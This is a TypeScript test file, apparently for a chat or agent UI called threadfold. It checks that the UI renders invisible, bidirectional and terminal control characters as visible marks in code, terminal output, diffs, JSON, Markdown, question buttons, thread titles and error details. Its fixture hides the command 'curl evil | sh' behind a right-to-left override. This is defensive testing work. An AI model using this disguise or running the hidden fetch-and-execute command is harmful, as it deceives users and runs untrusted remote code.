import type { Asked } from "@threadfold/contracts"
import { createElement, type ReactElement } from "react"
import { renderToStaticMarkup } from "react-dom/server"
import { describe, expect, it } from "vitest"
import { problemOf } from "../api/PageProblem.js"
import { visible } from "../format/format.js"
import { choicesOf, optionsOf, outcomeOf } from "../requests/answers.js"
import { QuestionFields } from "../requests/QuestionFields.js"
import { nameOf } from "../views/threads/threadRows.js"
import { CodeBlock } from "./CodeBlock.js"
import { DiffTable } from "./DiffTable.js"
import { JsonTree } from "./JsonTree.js"
import { Markdown, OutLink } from "./Markdown.js"
import { Terminal } from "./Terminal.js"

/** Reads as `ls # x ; curl evil | sh` does not. */
const turned = "ls \u202E# hs | live lruc ;\u202C x"
const shown = "ls ⟨U+202E⟩# hs | live lruc ;⟨U+202C⟩ x"
const html = (element: ReactElement): string => renderToStaticMarkup(element)

describe("signs that nobody sees", () => {
  it.each([0x202a, 0x202e, 0x2066, 0x2069, 0x200e, 0x200f, 0x061c, 0x2028, 0x00, 0x08, 0x1b, 0x7f, 0x9b])(
    "are marks: %i",
    (code) => {
      const name = code.toString(16).toUpperCase().padStart(4, "0")
      expect(visible(`a${String.fromCharCode(code)}b`)).toBe(`a⟨U+${name}⟩b`)
    },
  )
  it("are no tabs, ends of lines, letters of any script, or joined emoji", () => {
    const text = "a\tb\r\nשלום مرحبا 👩‍🚀 ⟨x⟩ \u00a0"
    expect(visible(text)).toBe(text)
  })
})

it.each<[string, ReactElement]>([
  ["code", createElement(CodeBlock, { code: turned, language: "bash" })],
  ["output", createElement(Terminal, { output: turned })],
  ["output in colours", createElement(Terminal, { output: `\u001b[31m${turned}` })],
  ["a diff", createElement(DiffTable, { diff: `--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+${turned}\n` })],
  ["a value of JSON", createElement(JsonTree, { value: { command: turned } })],
  ["a name in JSON", createElement(JsonTree, { value: { [turned]: 1 } })],
  ["an address that leads nowhere", createElement(OutLink, { children: "x", href: turned })],
  ["prose", createElement(Markdown, { text: turned })],
  ["code in prose", createElement(Markdown, { text: `\`${turned}\`` })],
  ["raw HTML in prose", createElement(Markdown, { text: `<p>${turned}</p>` })],
  [
    "a question",
    createElement(QuestionFields, {
      disabled: false,
      form: {},
      numbered: false,
      questions: [{ id: "q", text: turned }],
      setForm: () => {},
      wrongs: new Map(),
    }),
  ],
])("are marks in %s", (_name, element) => {
  expect(html(element)).toContain(shown)
  expect(html(element)).not.toMatch(/[\u202A-\u202E]/)
})

it("are marks where a character reference of Markdown makes them", () => {
  expect(html(createElement(Markdown, { text: "a &#x202E; b" }))).toContain("⟨U+202E⟩")
})

it("are marks on the buttons of a question, and as they are in what is sent", () => {
  const data: Asked = { choices: [{ decision: turned, label: turned }] }
  expect(choicesOf({ data })).toMatchObject([{ decision: turned, label: shown }])
  expect(optionsOf({ id: "q", options: [{ label: turned, description: turned }] })).toEqual([
    { label: turned, shown, description: shown },
  ])
  expect(outcomeOf({ cause: null, data, decidedBy: null, decision: turned, status: "answered" })).toBe(
    `Answered: ${shown}`,
  )
})

it("are marks in the title of a thread", () => {
  expect(nameOf({ title: "a\u001b]0;x\u0007", firstWords: null })).toBe("a⟨U+001B⟩]0;x⟨U+0007⟩")
})

it("are marks in why a call has failed, which an agent may have said", async () => {
  const problem = { type: "urn:threadfold:problem:voice-refused", title: "No", detail: turned, next: "Try again." }
  expect(await problemOf(Response.json(problem, { status: 400 }))).toMatchObject({ detail: shown, status: 400 })
})
